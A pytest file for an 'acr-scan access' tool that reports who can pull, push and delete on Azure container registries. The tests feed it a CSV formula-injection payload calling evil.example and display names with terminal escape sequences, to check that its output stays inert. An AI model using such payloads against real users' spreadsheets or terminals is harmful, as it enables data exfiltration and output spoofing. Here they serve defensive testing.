"""``acr-scan access``: who can pull, push and delete on each registry, as a table, JSON and CSV.

Run in process (tests/cli.py) over the demo tenant, the IaC fixtures and hostile inputs. The
expected principals are looked up in the demo snapshot itself (role assignment, role name,
scope), so the tests follow the data rather than copies of its ids.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from scanner.inventory.access_paths import every_access
from scanner.inventory.build import build_inventory
from scanner.outputs.access import AccessFilter, AccessReport, select
from scanner.outputs.access.csv_doc import COLUMNS as CSV_COLUMNS
from scanner.outputs.access.csv_doc import AccessCsv
from scanner.outputs.access.csv_doc import row as csv_row
from scanner.outputs.access.json_doc import access_document, write_access_document
from scanner.outputs.access.table import _ACTION_COLORS, _BOLD, _NOTE, _RESET
from scanner.outputs.json_format import dumps
from scanner.resources import snapshot_schema_path
from scanner.sources.snapshot import SnapshotFileSource
from tests.conftest import DEMO, run_cli
from tests.test_hostile_output import FORGED, _on_a_terminal, raw_controls
from tests.test_hostile_output import SNAPSHOT as HOSTILE_SNAPSHOT

SCHEMA = json.loads((snapshot_schema_path().parent / "access.schema.json").read_text())
PROD = "contosoprodacr"
PUBLIC = "contosopublicacr"
ESC = "\x1b[2J\x1b]0;pwned\x07"
OUR_COLOURS = (_BOLD, _NOTE, _RESET, *_ACTION_COLORS.values())
HOSTILE_NAME = f"evil{ESC}\u202eexe.txt\n== contosoprodacr  [forged]"


def uncoloured(text: str) -> str:
    for code in OUR_COLOURS:
        text = text.replace(code, "")
    return text


def assert_inert(text: str) -> None:
    """No control character but our own colours and line feeds; no line forged by a name."""
    assert raw_controls(uncoloured(text)) == [], text[:2000]
    for line in text.splitlines():
        assert not line.startswith((*FORGED, "== contosoprodacr  [forged]")), line


def access(*args: str, cwd: Path | None = None) -> tuple[int, str, str]:
    proc = run_cli("access", *args, cwd=cwd)
    return proc.returncode, proc.stdout, proc.stderr


def access_json(*args: str) -> dict[str, Any]:
    code, out, err = access(*args, "--format", "json")
    assert code == 0, err
    document: dict[str, Any] = json.loads(out)
    jsonschema.Draft202012Validator(SCHEMA).validate(document)
    return document


def _assignment(data: dict[str, Any], role: str, scope_suffix: str, kind: str) -> dict[str, Any]:
    """The demo's one role assignment of ``role`` to a ``kind`` at the scope ending in ``scope_suffix``."""
    guid = next(d["name"] for d in data["resourceGraph"]["roleDefinitions"] if d["properties"]["roleName"] == role)
    found = [
        a
        for a in data["resourceGraph"]["roleAssignments"]
        if a["properties"]["roleDefinitionId"].lower().endswith(guid)
        and a["properties"]["scope"].lower().endswith(scope_suffix.lower())
        and a["properties"]["principalType"] == kind
    ]
    assert len(found) == 1, (role, scope_suffix, found)
    return found[0]


@pytest.fixture(scope="module")
def demo() -> dict[str, Any]:
    return json.loads(DEMO.read_text())


@pytest.fixture(scope="module")
def contributor(demo: dict[str, Any]) -> dict[str, Any]:
    """The Contributor group at the resource group of the production registries."""
    return _assignment(demo, "Contributor", "/resourceGroups/rg-acr-prod", "Group")


@pytest.fixture(scope="module")
def owner(demo: dict[str, Any]) -> dict[str, Any]:
    """The Owner of the production subscription."""
    sub = next(r["subscriptionId"] for r in demo["resourceGraph"]["registries"] if r["name"] == PROD)
    return _assignment(demo, "Owner", f"/subscriptions/{sub}", "User")


# --------------------------------------------------------------------------- who can push to X


def test_who_can_push_to_a_registry_lists_each_principal_with_its_path(
    contributor: dict[str, Any], owner: dict[str, Any]
) -> None:
    code, out, err = access("--snapshot", str(DEMO), "--registry", PROD, "--action", "push", "--no-color")
    assert code == 0, err
    assert err == ""
    lines = out.splitlines()
    assert lines[0].startswith(f"access from {DEMO}: 1 registry, ")
    assert f"== {PROD}  [LegacyRegistryPermissions]" in lines
    grants = lines[lines.index(f"== {PROD}  [LegacyRegistryPermissions]") + 1 : lines.index("  Escalations")]
    assert grants[0].split() == ["PRINCIPAL", "TYPE", "ACTIONS", "REPOSITORIES", "PATH"]
    # Users and groups are shown by their Graph display names (graph.directoryObjects).
    group_row = next(line for line in grants if line.lstrip().startswith("grp-acr-admins "))
    assert "Group" in group_row and "pull, push, delete" in group_row
    assert "Contributor at " + contributor["properties"]["scope"] in group_row
    owner_row = next(line for line in grants if "Owner at " in line)
    assert owner_row.lstrip().startswith("alice.admin@contoso.com ") and "User" in owner_row
    assert "Owner at " + owner["properties"]["scope"] in owner_row
    member_row = next(line for line in grants if line.lstrip().startswith("bob.dev@contoso.com "))
    group_id = contributor["properties"]["principalId"]
    assert f"member of group grp-acr-admins ({group_id}) → Contributor at " in member_row
    pipeline = next(line for line in grants if line.lstrip().startswith("azure-devops-contoso-prod "))
    assert "ServicePrincipal" in pipeline and "Contributor at " in pipeline
    # Pull-only principals do not push.
    assert not any("id-aks-prod-kubelet" in line or "AcrPull at" in line for line in grants)
    # The escalations follow, with what each capability means said once.
    escalations = lines[lines.index("  Escalations") :]
    assert any("release-orchestrator" in line and "enableAdminOrAnonymous" in line for line in escalations)
    assert "  listCredentials: can read the admin user's passwords (listCredentials)" in lines


def test_the_json_answer_is_the_same_edges_with_their_hops(contributor: dict[str, Any], owner: dict[str, Any]) -> None:
    document = access_json("--snapshot", str(DEMO), "--registry", PROD.upper(), "--action", "push")
    [registry] = document["registries"]
    assert registry["name"] == PROD and registry["roleAssignmentMode"] == "LegacyRegistryPermissions"
    assert all(e["registry"] == registry["id"] and "push" in e["actions"] for e in document["edges"])
    by_assignment = {(e["principal"], e["via"][-1]["id"]): e for e in document["edges"]}
    group = by_assignment[(contributor["properties"]["principalId"], contributor["id"])]
    assert group["principalType"] == "Group" and group["repositories"] == ["*"]
    assert group["via"][-1] == {
        "kind": "roleAssignment",
        "id": contributor["id"],
        "name": "Contributor at " + contributor["properties"]["scope"],
    }
    assert (owner["properties"]["principalId"], owner["id"]) in by_assignment
    assert {e["capability"] for e in document["escalations"]} >= {"listCredentials", "writeRoleAssignments"}


def test_json_validates_is_ordered_and_repeatable() -> None:
    first = run_cli("access", "--snapshot", str(DEMO), "--format", "json")
    second = run_cli("access", "--snapshot", str(DEMO), "--format", "json")
    assert first.returncode == 0 and first.stdout_bytes == second.stdout_bytes
    assert first.stdout_bytes.endswith(b"}\n") and b"\n" not in first.stdout_bytes[:-1]  # compact, like results.json
    document = json.loads(first.stdout)
    jsonschema.Draft202012Validator(SCHEMA).validate(document)
    assert document["schema_version"] == 1 and list(document) == sorted(document)
    ids = [r["id"].casefold() for r in document["registries"]]
    assert ids == sorted(ids) and len(ids) == len(json.loads(DEMO.read_text())["resourceGraph"]["registries"])
    rank = {rid: i for i, rid in enumerate(ids)}

    def via(e: dict[str, Any]) -> list[tuple[str, str, str]]:
        return [(h["kind"], h["id"].casefold(), h["name"]) for h in e["via"]]

    keys = [(rank[e["registry"].casefold()], e["principal"].casefold(), via(e)) for e in document["edges"]]
    assert keys == sorted(keys)
    assert {e["registry"].casefold() for e in document["edges"]} <= set(ids)
    assert all(e["meaning"] for e in document["escalations"])


def test_the_schema_leaves_room_for_consumers() -> None:
    document = access_json("--snapshot", str(DEMO), "--registry", PUBLIC)
    jsonschema.Draft202012Validator(SCHEMA).validate({**document, "consumers": [{"anything": 1}]})
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(SCHEMA).validate({**document, "consumers": ["not an object"]})
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(SCHEMA).validate({**document, "other": []})


# --------------------------------------------------------------------------- filters


def test_filter_by_display_name_any_case_across_registries() -> None:
    document = access_json("--snapshot", str(DEMO), "--principal", "AZURE-DevOps-Contoso-Prod")
    assert document["edges"] and document["escalations"]
    assert {e["displayName"] for e in document["edges"] + document["escalations"]} == {"azure-devops-contoso-prod"}
    assert len(document["registries"]) > 1  # the registries looked at are all listed


def test_filter_by_object_id_matches_the_same_grants() -> None:
    by_name = access_json("--snapshot", str(DEMO), "--principal", "image-scanner")
    principal = by_name["edges"][0]["principal"]
    assert access_json("--snapshot", str(DEMO), "--principal", principal.upper()) == by_name


def test_filter_anonymous_finds_the_public_registry() -> None:
    document = access_json("--snapshot", str(DEMO), "--principal", "Anonymous")
    [edge] = document["edges"]
    public = next(r for r in document["registries"] if r["name"] == PUBLIC)
    assert edge["registry"] == public["id"] and edge["principal"] == "anonymous"
    assert edge["actions"] == ["pull"] and edge["repositories"] == ["*"]
    assert [h["kind"] for h in edge["via"]] == ["anonymousPull"]
    code, out, _ = access("--snapshot", str(DEMO), "--principal", "anonymous", "--no-color")
    assert code == 0
    assert any(line.split()[:5] == ["anonymous", "Anonymous", "pull", "*", "anonymous"] for line in out.splitlines())


def test_filter_by_token_name_or_resource_id() -> None:
    by_name = access_json("--snapshot", str(DEMO), "--principal", "aks-edge-pull")
    [edge] = by_name["edges"]
    assert edge["principalType"] == "Token" and edge["principal"].endswith("/tokens/aks-edge-pull")
    assert [h["kind"] for h in edge["via"]] == ["token", "scopeMap"]
    assert access_json("--snapshot", str(DEMO), "--principal", edge["principal"].lower()) == by_name


def test_actions_and_registries_repeat_and_a_grant_matches_when_it_includes_the_action() -> None:
    everything = access_json("--snapshot", str(DEMO))
    pushers = access_json("--snapshot", str(DEMO), "--action", "push")
    assert pushers["edges"] == [e for e in everything["edges"] if "push" in e["actions"]]
    assert pushers["escalations"] == everything["escalations"]  # control-plane rights: not filtered by action
    either = access_json("--snapshot", str(DEMO), "--action", "delete", "--action", "push")
    assert either["edges"] == [e for e in everything["edges"] if {"push", "delete"} & set(e["actions"])]
    two = access_json("--snapshot", str(DEMO), "--registry", PROD, "--registry", PUBLIC)
    assert sorted(r["name"] for r in two["registries"]) == [PROD, PUBLIC]
    prod_id = next(r["id"] for r in two["registries"] if r["name"] == PROD)
    by_id = access_json("--snapshot", str(DEMO), "--registry", prod_id.upper())
    assert [r["name"] for r in by_id["registries"]] == [PROD]


def test_an_empty_answer_is_still_exit_0() -> None:
    document = access_json("--snapshot", str(DEMO), "--principal", "nobody-at-all")
    assert document["edges"] == [] and document["escalations"] == [] and document["registries"]
    code, out, _ = access("--snapshot", str(DEMO), "--principal", "nobody-at-all", "--registry", PUBLIC)
    assert code == 0 and f"no grant or escalation matches on 1 registry: {PUBLIC}" in out


def test_a_registry_that_is_not_in_the_input_is_an_error_not_an_empty_answer() -> None:
    code, out, err = access("--snapshot", str(DEMO), "--registry", "contosoprodacr-typo")
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and "no registry named 'contosoprodacr-typo'" in err and str(DEMO.name) in err


# --------------------------------------------------------------------------- CSV


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_one_row_per_edge() -> None:
    document = access_json("--snapshot", str(DEMO), "--registry", PROD)
    code, out, _ = access("--snapshot", str(DEMO), "--registry", PROD, "--format", "csv")
    assert code == 0 and out.startswith("registry_id,registry_name,principal,principal_type,display_name,")
    rows = _rows(out)
    assert len(rows) == len(document["edges"])
    for row, edge in zip(rows, document["edges"], strict=True):
        assert row["registry_id"] == edge["registry"] and row["registry_name"] == PROD
        assert row["principal"] == edge["principal"] and row["actions"] == ";".join(edge["actions"])
        assert row["via"] == " > ".join(h["name"] for h in edge["via"])
        assert row["unknown"] == "; ".join(edge["unknown"])


def test_csv_cells_do_not_run_as_formulas(demo_copy: dict[str, Any], write_snapshot: Callable[..., Path]) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    for sp in demo_copy["graph"]["servicePrincipals"]:
        if sp["displayName"] == "azure-devops-contoso-prod":
            sp["displayName"] = formula
    path = write_snapshot(demo_copy)
    code, out, _ = access("--snapshot", str(path), "--principal", formula, "--format", "csv")
    assert code == 0
    rows = _rows(out)
    assert rows and {r["display_name"] for r in rows} == {"'" + formula}
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())


# --------------------------------------------------------------------------- other inputs, errors, output


def test_iac_input(tmp_path: Path) -> None:
    document = access_json("--iac", "fixtures/iac/arm")
    assert len(document["registries"]) > 1
    assert any(e["principal"] == "anonymous" for e in document["edges"])
    assert any(h["kind"] == "roleAssignment" for e in document["edges"] for h in e["via"])
    code, out, err = access("--iac", "fixtures/iac/arm", "--no-color")
    assert code == 0, err
    assert out.startswith("access from iac: fixtures/iac/arm: ")


@pytest.mark.parametrize(
    ("make", "needle"),
    [
        (lambda tmp: tmp / "missing.json", "cannot read snapshot: no such file"),
        (lambda tmp: tmp, "is a directory"),
        (lambda tmp: _write(tmp / "broken.json", b'{"collectedAt": '), "broken.json"),
        (lambda tmp: _write(tmp / "wrong.json", b'{"collectedAt": 3}'), "wrong.json"),
        (lambda tmp: _write(tmp / "bomb.json.gz", _gzip_bomb()), "bomb.json.gz"),
    ],
    ids=["missing", "directory", "truncated", "not a snapshot", "too large once decompressed"],
)
def test_bad_input_is_one_line_and_exit_2(tmp_path: Path, make: Callable[[Path], Path], needle: str) -> None:
    path = make(tmp_path)
    code, out, err = access("--snapshot", str(path), "--max-decompressed-size", "1M")
    assert code == 2 and out == ""
    assert err.count("\n") == 1 and err.startswith("acr-scan: error: ") and "Traceback" not in err
    assert needle in err


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _gzip_bomb() -> bytes:
    return gzip.compress(b'{"collectedAt": "' + b" " * (4 << 20) + b'"}')


def test_iac_bad_path_is_one_line(tmp_path: Path) -> None:
    code, _, err = access("--iac", str(tmp_path / "nothing-here"))
    assert code == 2 and err.count("\n") == 1 and "nothing-here" in err


def test_output_file_is_written_and_stdout_stays_empty(tmp_path: Path) -> None:
    target = tmp_path / "access.json"
    code, out, err = access("--snapshot", str(DEMO), "--format", "json", "-o", str(target))
    assert code == 0 and out == "" and err == ""
    assert json.loads(target.read_text()) == access_json("--snapshot", str(DEMO))
    assert [p.name for p in tmp_path.iterdir()] == ["access.json"]  # no temporary file left


def test_colour_only_when_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    _, plain, _ = access("--snapshot", str(DEMO), "--registry", PROD)
    assert "\x1b" not in plain  # not a terminal
    _, coloured, _ = access("--snapshot", str(DEMO), "--registry", PROD, "--color")
    assert "\x1b[1m== contosoprodacr" in coloured and "\x1b[33mpush\x1b[0m" in coloured
    assert uncoloured(coloured) == plain
    terminal = ["access", "--snapshot", str(DEMO), "--registry", PROD]
    assert "\x1b[33mpush" in _on_a_terminal(terminal)  # a terminal gets colour by default
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b" not in _on_a_terminal(terminal)


# --------------------------------------------------------------------------- hostile names


def test_hostile_display_name_stays_escaped_in_the_table(
    demo_copy: dict[str, Any], write_snapshot: Callable[..., Path]
) -> None:
    for sp in demo_copy["graph"]["servicePrincipals"]:
        if sp["displayName"] == "azure-devops-contoso-prod":
            sp["displayName"] = HOSTILE_NAME
    path = write_snapshot(demo_copy)
    for colour in ("--color", "--no-color"):
        code, out, _ = access("--snapshot", str(path), "--registry", PROD, colour)
        assert code == 0
        assert_inert(out)
        assert "evil\\x1b[2J\\x1b]0;pwned\\x07\\u202eexe.txt\\n== contosoprodacr  [forged]" in out
    document = access_json("--snapshot", str(path), "--principal", HOSTILE_NAME)  # JSON keeps the exact text
    assert {e["displayName"] for e in document["edges"]} == {HOSTILE_NAME}


def test_hostile_registry_and_token_names_stay_escaped() -> None:
    code, out, _ = access("--snapshot", str(HOSTILE_SNAPSHOT), "--color")
    assert code == 0
    assert_inert(out)
    assert "== prod\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07" in out and "tok\\x1b[2J" in out


@pytest.mark.parametrize("fmt", ["json", "csv", "table"])
def test_any_format_printed_on_a_terminal_is_inert(fmt: str) -> None:
    shown = _on_a_terminal(["access", "--snapshot", str(HOSTILE_SNAPSHOT), "--format", fmt])
    assert sorted(set(raw_controls(uncoloured(shown).replace("\r\n", "\n"))) - {"\t"}) == []
    assert "pwned" in shown
    if fmt != "csv":  # (CSV keeps the line breaks inside its quoted cells, as `scan --format csv` does)
        assert not any(line.startswith("== registry forged") for line in shown.splitlines())


# --------------------------------------------------------------------------- the writers stream the same bytes


def _report(snapshot: Path, filters: AccessFilter) -> AccessReport:
    raw = SnapshotFileSource(snapshot).load()
    inventory = build_inventory(raw.data)
    return select(raw.origin, list(every_access(inventory)), filters)


@pytest.mark.parametrize("snapshot", [DEMO, HOSTILE_SNAPSHOT], ids=["demo", "hostile"])
@pytest.mark.parametrize(
    "filters",
    [AccessFilter(), AccessFilter(actions=("push",)), AccessFilter(principals=("nobody",))],
    ids=["all", "push", "nobody"],
)
def test_streamed_json_and_csv_are_the_documents_written_whole(snapshot: Path, filters: AccessFilter) -> None:
    """Each inherited grant is encoded once and spliced into every registry it reaches: the
    bytes must be those of the whole document encoded at once, and of csv.writer row by row."""
    report = _report(snapshot, filters)
    streamed = io.BytesIO()
    write_access_document(report, streamed)
    assert streamed.getvalue() == dumps(access_document(report))
    written = io.BytesIO()
    AccessCsv().write(report, written)
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    writer.writerows(csv_row(v, g) for v in report.registries for g in v.grants)
    assert written.getvalue() == expected.getvalue().encode()
